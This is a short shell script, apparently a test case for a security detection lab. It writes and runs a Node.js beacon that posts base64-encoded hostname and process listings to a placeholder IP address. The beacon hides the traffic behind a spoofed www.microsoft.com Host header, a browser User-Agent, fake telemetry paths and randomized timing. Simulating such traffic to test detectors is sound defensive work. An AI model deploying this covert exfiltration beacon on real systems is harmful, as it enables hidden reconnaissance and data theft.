#!/bin/sh
. /opt/case/case.sh

cat >/tmp/n.js <<'END'
const http = require("http"), os = require("os"), { execSync } = require("child_process");
let left = 12;
const ask = () => {
  if (!left--) return;
  const body = Buffer.from(left % 4 ? os.hostname() : execSync("id; ps aux | head -n 5").toString()).toString("base64");
  const r = http.request({ host: "203.0.113.203", port: 8080, method: "POST", path: "/v" + Math.floor(Math.random() * 90) + "/telemetry",
    headers: { Host: "www.microsoft.com", "User-Agent": "Mozilla/5.0", "Content-Length": body.length } }, a => a.resume().on("end", () => setTimeout(ask, 200 + Math.random() * 700)));
  r.on("error", () => process.exit(1)); r.end(body);
};
ask();
END
node /tmp/n.js
took_place
